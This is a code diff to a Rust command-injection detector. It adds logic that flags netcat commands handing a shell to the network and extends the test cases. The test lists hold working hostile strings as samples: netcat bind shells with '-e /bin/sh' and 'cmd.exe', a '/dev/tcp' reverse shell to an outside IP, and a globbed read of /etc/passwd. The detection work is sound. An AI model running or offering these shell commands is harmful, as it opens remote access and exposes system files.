@@ -466,6 +466,33 @@ fn later_shell_word(rest: &str) -> bool {
     })
 }
 
+/// Whether a netcat command line's options hand a shell to the connection:
+/// `-e /bin/sh`, `-c bash`, `--exec cmd.exe`.
+fn runs_a_shell(rest: &str) -> bool {
+    let mut words = simple_command(rest)
+        .split([' ', '\t'])
+        .filter(|w| !w.is_empty());
+    while let Some(w) = words.next() {
+        if matches!(w, "-e" | "-c" | "--exec" | "--sh-exec")
+            || (w.starts_with('-') && !w.starts_with("--") && w.ends_with('e') && w.len() <= 8)
+        {
+            let Some(prog) = words.next() else {
+                return false;
+            };
+            let prog = prog.trim_matches(['\'', '"']).to_ascii_lowercase();
+            let name = prog.rsplit(['/', '\\']).next().unwrap_or(&prog);
+            let name = name.strip_suffix(".exe").unwrap_or(name);
+            if matches!(
+                name,
+                "sh" | "bash" | "dash" | "zsh" | "ksh" | "cmd" | "powershell"
+            ) {
+                return true;
+            }
+        }
+    }
+    false
+}
+
 /// Commands that run the command after their own options: `sudo id`, `timeout 5 id`,
 /// `env X=1 id`, `nohup nc ...`. The wrapped command is judged as if it stood at the
 /// command position.
@@ -668,6 +695,14 @@ fn command_word(s: &str, i: usize, after_sep: bool) -> Option<CommandWord> {
     } else {
         0
     };
+    // `nc -lvvp 4445 -e /bin/sh`: netcat handing a shell to the network, wherever
+    // it stands (a two-letter name alone is too weak above)
+    let conf =
+        if conf < 85 && matches!(cmd.as_str(), "nc" | "ncat" | "netcat") && runs_a_shell(&s[j..]) {
+            85
+        } else {
+            conf
+        };
     Some(CommandWord {
         conf: (conf > 0).then_some((conf, ae.max(j))),
         cmd,
@@ -800,6 +835,9 @@ mod tests {
             "{,ifconfig}",
             "{,whoami,}",
             "{uname,-a}",
+            "nc -lvvp 4445 -e /bin/sh &",
+            "ncat 10.0.0.1 4444 -e cmd.exe",
+            "nc -nlvpe /bin/bash",
             "; /bin/bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
             // glob patterns the shell expands to a command
             ";/bin/c?t /etc/passwd",
@@ -897,6 +935,8 @@ mod tests {
             "echo in the mirror",
             "I'd like a refund",
             "{,cat}",
+            "nc -l 8080 -e is not supported",
+            "nc -z host 80",
             "{id,name}",
             "{ping,pong}",
             "\"whoami\" lyrics",
